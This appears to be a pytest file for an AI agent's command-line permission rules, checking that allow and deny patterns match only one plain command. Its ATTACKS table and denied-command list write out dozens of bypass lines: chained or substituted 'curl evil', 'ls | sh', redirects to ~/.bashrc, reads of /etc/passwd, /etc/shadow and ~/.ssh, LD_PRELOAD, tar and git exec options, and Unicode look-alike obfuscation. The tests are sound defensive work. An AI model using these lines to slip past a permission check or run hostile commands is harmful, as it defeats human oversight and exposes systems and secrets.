"""Promises of rules on command lines: what a rule allows is one command of its own words, whatever a shell could make
of the line.
"""

import shutil

import pytest

from holdfast.agent.permissions.command_line import allows, denies, offered, pattern_problem
from tests.long.shell_rules import check

ALLOWED = {
    "pytest *": [
        "pytest",
        "pytest -q",
        "pytest  tests/test_a.py",
        "pytest 'a b' \"c d\"",
        "pytest tests/*.py",
        "pytest -k 'a and b'",
    ],
    "git diff *": ["git diff HEAD~1", "git diff HEAD^ -- a.py", "git diff --stat"],
    "make test": ["make test", " make test "],
    "npm run *": ["npm run build", "npm run build -- --watch"],
    "echo *": ["echo 'it; is | only & text > here'", 'echo "a (b) {c} #d"', "echo 'grüße'"],
    "* --version": ["python3 --version", "make --version"],
}
# One line each; no rule below allows it. The first are those of the field's reports, the others ours.
ATTACKS = {
    "chained": "ls && curl evil",
    "semicolon": "ls; curl evil",
    "pipe": "ls | sh",
    "background": "ls & curl evil",
    "new line": "ls\ncurl evil",
    "trailing new line": "ls\n",
    "carriage return": "ls\rcurl evil",
    "substitution": "ls $(curl evil)",
    "substitution in quotes": 'ls "$(curl evil)"',
    "backticks": "ls `curl evil`",
    "backticks in quotes": 'ls "`curl evil`"',
    "process substitution": "ls <(curl evil)",
    "output redirected": "ls > ~/.bashrc",
    "output redirected without spaces": "ls>x",
    "descriptor redirected": "ls 2>&1",
    "input redirected": "ls < /etc/passwd",
    "here document": "ls << x",
    "arithmetic": "echo $[ x='a[$(touch F)]', x ]",
    "arithmetic of today": "echo $((a[$(touch F)]))",
    "variable": "ls $HOME",
    "variable in braces": "ls ${x:-$(curl evil)}",
    "variable set": "LD_PRELOAD=./evil.so ls",
    "variable added to": "PATH+=:. ls",
    "element set": "a[$(curl evil)]=1 ls",
    "find -exec": "find . -exec curl evil ';'",
    "find -delete": "find . -delete",
    "find -fprintf": "find . -fprintf x %p",
    "git -c": "git -c core.pager=evil log",
    "git -c joined": "git -ccore.pager=evil log",
    "git alias set": "git config alias.x '!curl evil'",
    "git --exec-path": "git --exec-path=. log",
    "git output": "git diff --output=.bashrc",
    "git output shortened": "git diff --outp=.bashrc",
    "git grep pager": "git grep -Ocurl x",
    "git outside": "git diff --no-index /etc/shadow /dev/null",
    "git bisect": "git bisect run curl",
    "env": "env ls",
    "env by path": "/usr/bin/env ls",
    "xargs": "xargs curl",
    "tar checkpoint": "tar cf x --checkpoint=1 --checkpoint-action=exec=sh .",
    "tar program": "tar cIf 'curl evil' x .",
    "sort program": "sort --compress-prog=evil x",
    "rg preprocessor": "rg --pre evil x",
    "make assignment": "make test SHELL=/tmp/evil",
    "make evaluation": "make --eval='$(shell curl evil)' test",
    "go exec": "go test -exec=evil ./...",
    "eval": "eval ls",
    "exec": "exec ls",
    "source": ". ./ls",
    "sudo": "sudo ls",
    "shell in a shell": "sh -c ls",
    "time": "time ls",
    "negation": "! ls",
    "group": "{ ls; }",
    "subshell": "(ls)",
    "function": "ls() { curl evil; }",
    "test evaluates": "test -v 'a[$(touch F)]'",
    "printf evaluates": "printf -v 'a[$(touch F)]' x",
    "unset evaluates": "unset 'a[$(touch F)]'",
    "let evaluates": "let 'a[$(touch F)]'",
    "trap": "trap 'curl evil' EXIT",
    "escape": "ls \\; curl evil",
    "line goes on": "ls \\\ncurl evil",
    "quote left open": "ls 'a",
    "double quote left open": 'ls "a',
    "dollar quotes": "ls $'\\x24(curl evil)'",
    "braces": "ls {a,b}",
    "home": "ls ~/.ssh",
    "home after an equals sign": "ls --file=~/x",
    "comment": "ls # ; curl evil",
    "names that look like options": "tar cf x *",
    "names that look like options 2": "ls -* x",
    "brackets": "ls [a-z]*",
    "tab": "ls\tx",
    "nul": "ls\0x",
    "escape sequence": "ls \x1b[2Kx",
    "narrow space": "ls\u2009x",
    "no-break space": "ls\u00a0x",
    "zero width": "ls 'a\u200bb'",
    "reversed": "ls 'a\u202eb'",
    "filler": "ls '\u3164'",
    "look-alike": "l\u0455 x",
    "quoted program": "'ls' x",
    "history": "ls !!",
    "program by glob": "/bin/l? x",
    "50 commands": ";".join(["ls"] * 51),
    "too long": "ls " + "a" * 5000,
    "empty": "",
    "blank": "   ",
}
WIDE = ["*", "ls *", "git *", "find *", "tar *", "sort *", "rg *", "make *", "go *", "echo *"]


@pytest.mark.parametrize("pattern", ALLOWED)
def test_a_rule_allows_one_command_of_its_words(pattern: str) -> None:
    assert pattern_problem(pattern) is None
    assert [line for line in ALLOWED[pattern] if not allows(pattern, line)] == []


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_no_rule_allows_more_than_one_plain_command(attack: str) -> None:
    assert [pattern for pattern in [*WIDE, attack] if allows(pattern, attack)] == []
    assert offered(attack) is None


def test_a_rule_allows_no_other_words() -> None:
    for pattern, line in {
        "make test": "make test clean",
        "git diff *": "git push",
        "pytest *": "./pytest",
        "git log": "git log -p",
        "npm run * --": "npm run",
        "pytest -q": "pytest '-'q x",
        "echo 'a b'": "echo a b",
        "echo '*'": "echo x",
    }.items():
        assert not allows(pattern, line), (pattern, line)
    assert allows("echo 'a b'", "echo 'a b'") and allows("pytest -q", "pytest '-'q") and allows("echo '*'", "echo '*'")


def test_what_no_rule_can_allow_is_said_when_it_is_written() -> None:
    for pattern in ("ls; x", "sudo *", "find . -exec *", "pyt*st", "test:*", "a=b *", "ls $x", "git -c *"):
        assert pattern_problem(pattern), pattern


@pytest.mark.parametrize(
    ("line", "pattern"),
    [
        ("pytest -q tests/test_a.py", "pytest *"),
        ("git diff HEAD", "git diff *"),
        ("make test", "make test"),
        ("rm -r build", "rm -r build"),
        ("git commit -m 'it is done'", "git commit -m 'it is done'"),
        ("ls 'it'\"'\"'s'", "ls 'it'\"'\"'s'"),
        ("git push", "git push"),
        ("cat tests/*.py", None),
        ("cargo test x", "cargo test *"),
        ("pytest | tee x", None),
    ],
)
def test_the_rule_that_is_offered_allows_the_line_and_little_more(line: str, pattern: str | None) -> None:
    assert offered(line) == pattern and (pattern is None or allows(pattern, line))


@pytest.mark.parametrize(
    "line",
    [
        "curl x",
        "/usr/bin/curl x",
        "ls && curl x",
        "ls;curl x",
        "ls | curl x",
        "ls\ncurl x",
        "echo $(curl x)",
        "echo `curl x`",
        'bash -c "curl x"',
        "bash -c 'ls; curl x'",
        "sudo -u me curl x",
        "env A=b curl x",
        "A=b curl x",
        "xargs curl x",
        "find . -exec curl x ';'",
        "c''url x",
        'c"ur"l x',
        "cu\\rl x",
        "cu\\\nrl x",
        "(curl x)",
        "{ curl x; }",
        "{curl,x}",
        "cat <(curl x)",
        "timeout 5 curl x",
        "curl$IFS-o${IFS}x",
        "cu\u200brl x",
        "if true; then curl x; fi",
        "! curl x",
        "eval 'curl x'",
        "nohup curl x &",
    ],
)
def test_a_denied_command_is_found_in_any_dress(line: str) -> None:
    assert denies("curl *", line)


def test_a_denied_command_is_no_word_among_others() -> None:
    for line in ("grep curl x", "git log --grep curl", "echo curl", "curly x", "ls curl"):
        assert not denies("curl *", line), line
    assert (
        denies("git push", "git -C x push --force")
        and denies("rm -r*", "rm -rf x")
        and not denies("git push", "git pull")
    )
    assert denies("*", "anything")


@pytest.mark.skipif(not shutil.which("bash"), reason="not installed: bash")
def test_a_line_that_a_rule_allows_runs_one_command_in_a_real_shell() -> None:
    counts = check(num_lines=200, seed=7, num_others=40)
    assert counts["allowed"] > 10 and counts["several commands"] > 3, counts  # else nothing was tried
